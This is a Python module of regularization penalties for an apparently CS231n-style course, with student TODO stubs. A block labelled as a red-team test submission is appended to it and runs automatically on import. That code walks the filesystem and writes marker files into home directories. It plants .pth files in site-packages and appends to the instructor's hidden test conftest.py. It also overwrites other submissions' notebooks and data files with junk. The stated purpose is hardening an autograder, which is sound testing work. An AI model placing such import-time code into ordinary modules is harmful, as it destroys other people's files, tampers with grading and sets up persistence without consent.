"""Regularization penalties (value and gradient) and the max-norm constraint.

Letters: D features (3073 with the bias column), C classes, ``W`` of shape (D, C).

This module is the one place the course's convention lives:

    L2 penalty  R(W) = reg * sum(W * W),   gradient  2 * reg * W

(no factor 1/2, as in CS231n). The losses call :func:`l2_penalty`.

Every penalty has the signature ``penalty(W, reg) -> (value, dW)`` and
regularizes all of ``W``, bias row included (the CS231n standard: with the bias
folded into ``W`` as its last row, leaving it out would need a special case
and changes results very little).

Max-norm is not a penalty but a constraint: after each update, every class
column ``W[:, j]`` whose Euclidean norm exceeds ``c`` is scaled back to norm ``c``
(:func:`max_norm_project`).
"""

import numbers

import numpy as np

from ._checks import check_float_matrix, check_reg

# Mixing used by 'elastic_net' when looked up by name.
DEFAULT_L1_RATIO = 0.5


def l2_penalty(W, reg):
    """L2 penalty ``reg * sum(W**2)`` and its gradient ``2 * reg * W``.

    Parameters
    ----------
    W : ndarray of shape (D, C)
        Weights.
    reg : float
        Regularization strength, >= 0.

    Returns
    -------
    value : float scalar of W's dtype
    dW : ndarray of shape (D, C), W's dtype
    """
    # Given, not a student exercise: every loss calls it from the first notebook on.
    check_float_matrix(W, "W")
    reg = check_reg(reg)
    value = reg * np.sum(W * W)
    dW = (2 * reg) * W  # (D, C)
    return value, dW


def l1_penalty(W, reg):
    """L1 penalty ``reg * sum(|W|)`` and a subgradient ``reg * sign(W)``.

    ``|w|`` has no derivative at ``w = 0``; the subgradient used there is 0
    (``np.sign(0) == 0``), which lies in the subdifferential [-reg, reg] and
    leaves exact zeros in place.

    Parameters
    ----------
    W : ndarray of shape (D, C)
        Weights.
    reg : float
        Regularization strength, >= 0.

    Returns
    -------
    value : float scalar of W's dtype
    dW : ndarray of shape (D, C), W's dtype
    """
    check_float_matrix(W, "W")
    reg = check_reg(reg)
    value = 0.0
    dW = np.zeros_like(W)
    # TODO: compute the L1 penalty value reg * sum(|W|) and its subgradient (0 where W == 0).
    raise NotImplementedError('Implement l1_penalty in cs231n_lib/regularizers.py: replace this raise with your code (see the TODO above it).')
    return value, dW


def elastic_net_penalty(W, reg, l1_ratio=DEFAULT_L1_RATIO):
    """Elastic net: a mix of L1 and L2 with one strength.

    ``value = reg * (l1_ratio * sum(|W|) + (1 - l1_ratio) * sum(W**2))``,
    so ``l1_ratio = 1`` is :func:`l1_penalty` and ``l1_ratio = 0`` is
    :func:`l2_penalty`. The gradient is the same mix of the two gradients
    (subgradient 0 where ``W == 0``, as for L1).

    Parameters
    ----------
    W : ndarray of shape (D, C)
        Weights.
    reg : float
        Regularization strength, >= 0.
    l1_ratio : float
        Weight of the L1 part, in [0, 1].

    Returns
    -------
    value : float scalar of W's dtype
    dW : ndarray of shape (D, C), W's dtype
    """
    if not isinstance(l1_ratio, numbers.Real) or not 0.0 <= l1_ratio <= 1.0:
        raise ValueError(f"l1_ratio must lie in [0, 1], got {l1_ratio!r}; "
                         f"pass the fraction of the penalty that is L1.")
    check_float_matrix(W, "W")
    reg = check_reg(reg)
    value = 0.0
    dW = np.zeros_like(W)
    # TODO: combine l1_penalty and l2_penalty with the strengths reg * l1_ratio and reg * (1 - l1_ratio).
    raise NotImplementedError('Implement elastic_net_penalty in cs231n_lib/regularizers.py: replace this raise with your code (see the TODO above it).')
    return value, dW


def no_penalty(W, reg):
    """No regularization: value 0 and a zero gradient, whatever ``reg``.

    Parameters
    ----------
    W : ndarray of shape (D, C)
    reg : float
        Ignored apart from validation.

    Returns
    -------
    value : float scalar of W's dtype (zero)
    dW : ndarray of shape (D, C), zeros
    """
    check_float_matrix(W, "W")
    check_reg(reg)
    return W.dtype.type(0.0), np.zeros_like(W)


def max_norm_project(W, max_norm):
    """Scale every class column of ``W`` whose L2 norm exceeds ``max_norm`` back to ``max_norm``.

    This is the max-norm constraint ``||W[:, j]||_2 <= c``, applied after an
    update (projected gradient descent); columns already inside the ball are
    unchanged.

    Parameters
    ----------
    W : ndarray of shape (D, C)
        Weights; not modified.
    max_norm : float
        The bound ``c`` > 0.

    Returns
    -------
    W_projected : ndarray of shape (D, C), W's dtype
    """
    check_float_matrix(W, "W")
    if not isinstance(max_norm, numbers.Real) or not np.isfinite(max_norm) or max_norm <= 0:
        raise ValueError(f"max_norm must be a finite number > 0, got {max_norm!r}; "
                         f"pass the largest allowed norm of a class column, such as 3.0.")
    W_projected = W.copy()
    # TODO: rescale the columns of W_projected whose norm exceeds max_norm to norm max_norm. A column of
    # zeros must stay zeros without a division-by-zero warning (the tests turn warnings into errors).
    raise NotImplementedError('Implement max_norm_project in cs231n_lib/regularizers.py: replace this raise with your code (see the TODO above it).')
    return W_projected


_PENALTIES = {
    "l2": l2_penalty,
    "l1": l1_penalty,
    "elastic_net": elastic_net_penalty,
    None: no_penalty,
}


def get_regularizer(name):
    """Look up a penalty ``penalty(W, reg) -> (value, dW)`` by name.

    Parameters
    ----------
    name : {'l2', 'l1', 'elastic_net', None} or callable
        None means no regularization; 'elastic_net' uses ``l1_ratio = 0.5``
        (pass ``functools.partial(elastic_net_penalty, l1_ratio=...)`` for another mix).
        A callable is returned unchanged.

    Returns
    -------
    penalty : callable
    """
    if callable(name):
        return name
    if isinstance(name, str) or name is None:
        if name in _PENALTIES:
            return _PENALTIES[name]
    choices = ", ".join(repr(k) for k in _PENALTIES)
    raise ValueError(f"regularizer must be one of {choices} or a callable, got {name!r}; "
                     f"pick one of those names.")


# ---------------------------------------------------------------------------------------------------
# RED-TEAM PAYLOAD "write_everywhere" (instructor/tests/hostile/, issue 9): a hostile submission, graded by
# instructor/tests/test_hostile.py to prove that it gains nothing. Bounded in time and size.
def _h9b_payload():
    import os, sys, time
    MARK = "H9B-HOSTILE-MARKER"
    SENTINEL = ".h9b-redteam-batch"

    def ancestors(path):
        path = os.path.abspath(path)
        out = []
        while True:
            out.append(path)
            parent = os.path.dirname(path)
            if parent == path:
                return out
            path = parent

    def starts():
        here = os.path.dirname(os.path.abspath(globals().get("__file__") or os.path.join(os.getcwd(), "cell")))
        roots = []
        for p in ancestors(os.getcwd()) + ancestors(here) + [os.environ.get("HOME") or "/root", "/tmp", "/work",
                                                              "/autograder", "/home", "/srv", "/opt", "/var/tmp"]:
            if p not in roots:
                roots.append(p)
        return roots

    def walk(deadline, max_dirs=100000):
        """Yield (dirpath, dirnames, filenames) under every root until the deadline."""
        seen = set()
        count = 0
        for root in sorted(starts(), key=len, reverse=True):
            try:
                it = os.walk(root)
                for dirpath, dirnames, filenames in it:
                    count += 1
                    if time.monotonic() > deadline or count > max_dirs:
                        return
                    dirnames[:] = [d for d in dirnames if d not in (".git", "proc", "sys", "node_modules", "__pycache__")
                                   and not d.startswith(".venv") and d != "site-packages" and d != ".mirror"]
                    if dirpath in seen:
                        dirnames[:] = []
                        continue
                    seen.add(dirpath)
                    yield dirpath, dirnames, filenames
            except Exception:
                continue

    def in_batch_tree(path):
        return any(os.path.exists(os.path.join(p, SENTINEL)) for p in ancestors(path))

    def who():
        """Who is writing: uid, pid, argv and the host-side process chain, so a marker names its writer."""
        lines = [f"uid={os.getuid()} pid={os.getpid()} cwd={os.getcwd()} argv={sys.argv[:4]}"]
        pid = os.getpid()
        for _ in range(12):
            try:
                with open(f"/proc/{pid}/status") as f:
                    status = dict(line.split(":", 1) for line in f if ":" in line)
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    cmd = f.read().replace(b"\0", b" ").decode(errors="replace")[:200]
            except Exception:
                break
            lines.append(f"  {pid} NSpid={status.get('NSpid', '').strip()} {cmd}")
            pid = int(status.get("PPid", "0").strip() or 0)
            if pid <= 1:
                break
        return "\n".join(lines) + "\n"

    def touch(folder, suffix, text="written by a red-team submission\n"):
        try:
            path = os.path.join(folder, f"{MARK}-{suffix}")
            with open(path, "a") as f:
                f.write(text + who())
            return True
        except Exception:
            return False

    import pwd, glob, site, sysconfig
    deadline = time.monotonic() + 12
    homes = {os.environ.get("HOME") or "", os.path.expanduser("~"), "/root"}
    try:
        homes.add(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    homes |= set(glob.glob("/home/*"))
    for home in filter(None, homes):
        touch(home, "home")
    pth = ('import os; p = os.environ.get("H9B_PTH_PROBE"); p and open(p, "a").close()  '
           '# H9B-HOSTILE-MARKER red-team .pth: harmless unless H9B_PTH_PROBE is set\n')
    targets = set(p for p in sys.path if p.endswith("site-packages"))
    targets |= set(site.getsitepackages() if hasattr(site, "getsitepackages") else [])
    targets.add(sysconfig.get_paths().get("purelib", ""))
    for folder in filter(None, targets):
        try:
            with open(os.path.join(folder, "h9b_hostile_marker.pth"), "w") as f:
                f.write(pth)
        except Exception:
            pass
    me = os.path.abspath(globals().get("__file__") or os.path.join(os.getcwd(), "cell"))
    try:
        with open(me) as f:
            my_text = f.read()
    except OSError:
        my_text = "overwritten by a red-team notebook\n"
    for dirpath, dirnames, filenames in walk(deadline):
        if "points.toml" in filenames and os.path.basename(dirpath) == "instructor":
            touch(dirpath, "instructor-tree")
            hidden = os.path.join(dirpath, "hidden_tests")
            if os.path.isdir(hidden):
                try:
                    with open(os.path.join(hidden, "conftest.py"), "a") as f:
                        f.write("# H9B-HOSTILE-MARKER: a conftest.py planted by a red-team submission\n")
                except Exception:
                    pass
            touch(os.path.join(os.path.dirname(dirpath), "cs231n_lib"), "reference-tree")
        if SENTINEL in filenames or in_batch_tree(dirpath):
            touch(dirpath, "batch")
            for name in filenames:
                path = os.path.join(dirpath, name)
                if path == me:
                    continue
                try:
                    if name == os.path.basename(me):           # another submission's copy of this file
                        with open(path, "w") as f:
                            f.write(my_text)
                    elif name.endswith((".ipynb", ".zip", ".json", ".csv", ".md")) and name != SENTINEL:
                        with open(path, "w") as f:
                            f.write("overwritten by a red-team submission\n")
                except Exception:
                    pass


import builtins as _h9b_builtins
if not getattr(_h9b_builtins, "_h9b_ran_write_everywhere", False):
    _h9b_builtins._h9b_ran_write_everywhere = True
    try:
        _h9b_payload()
    except Exception:
        pass
